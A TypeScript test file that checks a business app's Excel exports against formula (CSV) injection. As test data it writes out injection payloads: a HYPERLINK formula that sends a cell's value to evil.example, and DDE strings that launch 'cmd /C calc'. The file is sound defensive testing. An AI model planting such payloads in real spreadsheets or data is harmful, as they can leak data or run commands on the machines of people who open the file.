import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fromFormulaSafe } from '@backend/core/excel';
import { SAMPLE_ANCHOR } from '@backend/core/sample';
import type { ExportJob, InputOf } from '@shared/contract';
import { parse as parseCsv } from 'csv-parse/sync';
import type ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestBackend, type TestBackend, validClient, validEngagement, validSpecialist } from '../../support/backend';

/**
 * Formula injection (OWASP "CSV Injection"): records whose names, notes and
 * reasons start with = + - @, a tab or a carriage return go through every
 * workbook Keel writes — the finance month workbook, the timesheet detail,
 * the plan and the SLA report. Each is reopened with exceljs: no text cell
 * may start with one of those characters (each carries a leading apostrophe
 * instead), and the only formulas are Keel's own totals (per-currency SUMIFS;
 * plain SUM for the hours of the finance workbook's Hours by model), whose cached results still equal Keel's figures. Tab and carriage return
 * cannot come through a form (text is trimmed at the boundary), so they are
 * planted in the database directly, as data from an older version would be.
 */

const Excel = createRequire(import.meta.url)('exceljs') as typeof ExcelJS;
// XML turns a raw carriage return into a line feed on reading, so a planted CR comes back as LF.
const DANGEROUS = /^[=+\-@\t\r\n]/;
const NEUTRALISED = /^'[=+\-@\t\r\n]/;
/** One hostile first character per planted text, in turn. */
const PREFIXES = ['=', '+', '-', '@', '\t', '\r'];

let b: TestBackend;
let ids: { client: string; engagement: string; specialist: string; netMinor: number };

beforeAll(async () => {
  let tick = 0;
  const at = Date.parse(`${SAMPLE_ANCHOR}T10:00:00.000Z`);
  b = openTestBackend({ clock: () => new Date(at + tick++ * 1000) });
  await b.ok('sample.load');

  // Straight into the database: every text column the workbooks show, one hostile first character per row in turn.
  let n = 0;
  const plant = (table: string, column: string) => {
    const rows = b.db
      .prepare(`SELECT rowid AS r, ${column} AS v FROM ${table} WHERE ${column} <> '' AND ${column} NOT GLOB '[=+@-]*'`)
      .all() as {
      r: number;
      v: string;
    }[];
    const update = b.db.prepare(`UPDATE ${table} SET ${column} = ? WHERE rowid = ?`);
    for (const row of rows) update.run(`${PREFIXES[n++ % PREFIXES.length]}${row.v}`, row.r);
  };
  plant('client', 'name');
  plant('engagement', 'name');
  plant('specialist', 'full_name');
  plant('time_entry', 'note');
  plant('staffing_request', 'title');
  plant('replacement_request', 'submitted_by');
  plant('replacement_request', 'notes');
  plant('replacement_request', 'late_reason');
  plant('replacement_request', 'cancel_reason');
  plant('replacement_pause', 'reason');

  // Through the forms, as a user (or a hostile client's data) would enter them.
  const client = await b.ok('clients.create', { ...validClient, name: '=HYPERLINK("https://evil.example/?x="&A1,"Helvetic")' });
  const engagement = await b.ok('engagements.create', { ...validEngagement(client.id), name: "+cmd|' /C calc'!A0" });
  const specialist = await b.ok('specialists.create', {
    ...validSpecialist,
    skills: ['MLflow'],
    fullName: "@SUM(1+1)*cmd|' /C calc'!A0",
    email: 'hostile.name@example.com',
  });
  await b.ok('rates.create', {
    engagementId: engagement.id,
    role: validSpecialist.role,
    effectiveFrom: '2026-02-01',
    hourlyRateMinor: 15_000,
  });
  for (const [date, minutes, note] of [
    ['2026-10-05', 450, "-2+3+cmd|' /C calc'!A0"],
    ['2026-10-06', 480, '=1+2'],
    ['2026-10-07', 240, 'plain note'],
  ] as const) {
    await b.ok('time.setCell', { specialistId: specialist.id, engagementId: engagement.id, date, activity: 'deployment', minutes, note });
  }
  await b.ok('months.approve', { engagementId: engagement.id, month: '2026-10' });
  const invoice = await b.ok('invoices.issue', { engagementId: engagement.id, month: '2026-10' });
  ids = { client: client.id, engagement: engagement.id, specialist: specialist.id, netMinor: invoice.netMinor };
}, 120_000);
afterAll(() => b?.dispose());

async function finished(job: ExportJob): Promise<ExportJob> {
  let status = job;
  for (let i = 0; i < 2000 && status.state === 'running'; i++) {
    await new Promise((resolve) => setTimeout(resolve, 10));
    status = await b.ok('finance.exportStatus', { jobId: job.id });
  }
  return status;
}

async function financeExport(input: InputOf<'finance.exportStart'>): Promise<Buffer> {
  const job = await finished(await b.ok('finance.exportStart', input));
  expect(job).toMatchObject({ state: 'done', error: null });
  return Buffer.from((await b.ok('finance.exportDownload', { jobId: job.id })).base64, 'base64');
}

/** Every workbook Keel writes, as the user downloads it. */
async function everyWorkbook(): Promise<[string, Buffer][]> {
  return [
    ['finance month 2026-10', await financeExport({ kind: 'month', month: '2026-10' })],
    ['finance month 2026-09', await financeExport({ kind: 'month', month: '2026-09' })],
    ['timesheet detail', await financeExport({ kind: 'detail', from: '2026-09-01', to: '2026-11-30' })],
    ['plan', Buffer.from((await b.ok('plan.export', { from: '2026-11-23', periods: 6 })).base64, 'base64')],
    ['SLA report', Buffer.from((await b.ok('continuity.export', { year: 2026, quarter: 4 })).base64, 'base64')],
    ['SLA report Q3', Buffer.from((await b.ok('continuity.export', { year: 2026, quarter: 3 })).base64, 'base64')],
  ];
}

type Seen = {
  text: number;
  neutralised: string[];
  formulas: { sheet: string; address: string; formula: string; result: unknown; rowLabel: unknown }[];
};

async function inspect(bytes: Buffer): Promise<Seen> {
  const workbook = new Excel.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const seen: Seen = { text: 0, neutralised: [], formulas: [] };
  for (const ws of workbook.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        const value = cell.value;
        if (cell.type === Excel.ValueType.Formula) {
          const f = value as ExcelJS.CellFormulaValue;
          seen.formulas.push({
            sheet: ws.name,
            address: cell.address,
            formula: f.formula,
            result: f.result,
            rowLabel: row.getCell(1).value,
          });
          return;
        }
        if (cell.type === Excel.ValueType.RichText) throw new Error(`${ws.name}!${cell.address} is rich text`);
        if (typeof value !== 'string') return;
        seen.text++;
        if (DANGEROUS.test(value))
          throw new Error(`${ws.name}!${cell.address} starts with ${JSON.stringify(value[0])}: ${JSON.stringify(value)}`);
        if (NEUTRALISED.test(value)) seen.neutralised.push(value);
      });
    });
  }
  return seen;
}

describe('formula injection in every workbook', { timeout: 120_000 }, () => {
  it('writes every hostile text as neutralised text, and no formula but Keel’s own totals', async () => {
    const all = new Set<string>();
    for (const [name, bytes] of await everyWorkbook()) {
      const seen = await inspect(bytes);
      expect(seen.text, name).toBeGreaterThan(0);
      expect(seen.neutralised.length, `${name} shows planted text`).toBeGreaterThan(0);
      for (const text of seen.neutralised) all.add(text[1] === '\n' ? '\r' : (text[1] as string));
      for (const f of seen.formulas) {
        const total =
          f.sheet === 'Hours by model' ? /^SUM\([EF]\d+:[EF]\d+\)$/ : /^SUMIFS\([A-Z]+\d+:[A-Z]+\d+,[A-Z]+\d+:[A-Z]+\d+,"[A-Z]{3}"\)$/;
        expect(f.formula, `${name} ${f.sheet}!${f.address}`).toMatch(total);
        expect(f.rowLabel, `${name} ${f.sheet}!${f.address}`).toBe('Total');
        // exceljs reads a cached <v>0</v> back as no result at all; any other cached value is a number.
        expect(typeof (f.result ?? 0), `${name} ${f.sheet}!${f.address}`).toBe('number');
      }
      if (name.startsWith('finance month')) expect(seen.formulas.length, name).toBeGreaterThan(0);
      // The timesheet detail's export has only the Hours by model totals.
      else
        expect(
          seen.formulas.filter((f) => f.sheet !== 'Hours by model'),
          name,
        ).toEqual([]);
    }
    // Every hostile first character reached some workbook and came out neutralised.
    expect([...all].sort()).toEqual([...PREFIXES].sort());
  });

  it('neutralises the records entered through the forms, and the invoice totals stay Keel’s figures', async () => {
    const workbook = new Excel.Workbook();
    await workbook.xlsx.load(
      (await financeExport({ kind: 'month', month: '2026-10', engagementId: ids.engagement })) as unknown as ExcelJS.Buffer,
    );
    const summary = workbook.getWorksheet('Summary');
    expect(summary?.getCell('A2').value).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"Helvetic")');
    expect(summary?.getCell('B2').value).toBe("'+cmd|' /C calc'!A0");
    expect(summary?.getCell('J4').value).toEqual({ formula: 'SUMIFS(J2:J2,C2:C2,"CHF")', result: ids.netMinor / 100 });
    const lines = workbook.getWorksheet('Invoice lines');
    expect(lines?.getCell('D2').value).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    const detail = workbook.getWorksheet('Timesheet detail');
    const notes = [2, 3, 4].map((r) => detail?.getRow(r).getCell(14).value);
    expect(notes).toEqual(["'-2+3+cmd|' /C calc'!A0", "'=1+2", 'plain note']);
  });

  it('reads its own neutralised export back as the same names and notes: a re-import finds only duplicates', async () => {
    const bytes = await financeExport({ kind: 'month', month: '2026-10', engagementId: ids.engagement });
    const report = await b.ok('hours.import', { fileName: 'month.xlsx', base64: bytes.toString('base64'), dryRun: true });
    expect(report).toMatchObject({ rows: 3, ready: 0, problemCount: 0, duplicateCount: 3 });
    expect(report.duplicates.every((d) => /^Entry [0-9a-f-]{36} is already in Keel, so this row was skipped\.$/.test(d.message))).toBe(
      true,
    );
  });

  it('undoes only its own apostrophe when reading a file back', () => {
    expect(["'=1+2", "'+1", "'-1", "'@x", "'\tx", "'\rx", "'plain", "''=x", 'x'].map(fromFormulaSafe)).toEqual([
      '=1+2',
      '+1',
      '-1',
      '@x',
      '\tx',
      '\rx',
      "'plain",
      "''=x",
      'x',
    ]);
  });

  const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0;
  it.skipIf(!soffice)(
    'LibreOffice recalculates the month workbook: the totals equal Keel’s and no text became a formula (skipped where soffice is not installed)',
    async () => {
      const dir = mkdtempSync(join(tmpdir(), 'keel-lo-'));
      try {
        const file = join(dir, 'month.xlsx');
        writeFileSync(file, await financeExport({ kind: 'month', month: '2026-10', engagementId: ids.engagement }));
        // Recalculates on load and writes the first sheet (Summary) as CSV with the values it computed.
        execFileSync(
          'soffice',
          ['--headless', '--norestore', `-env:UserInstallation=file://${dir}/profile`, '--convert-to', 'csv', '--outdir', dir, file],
          {
            timeout: 90_000,
          },
        );
        const csvName = readdirSync(dir).find((f) => f.endsWith('.csv'));
        const rows = parseCsv(readFileSync(join(dir, csvName ?? 'missing.csv'), 'utf8'), { relax_column_count: true }) as string[][];
        expect(rows[1]?.[0]).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"Helvetic")');
        const total = rows.find((r) => r[0] === 'Total');
        expect(Number(total?.[9]?.replace(/[^\d.]/g, ''))).toBe(ids.netMinor / 100);
        for (const r of rows) for (const cell of r) expect(cell).not.toMatch(DANGEROUS);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    },
  );
});
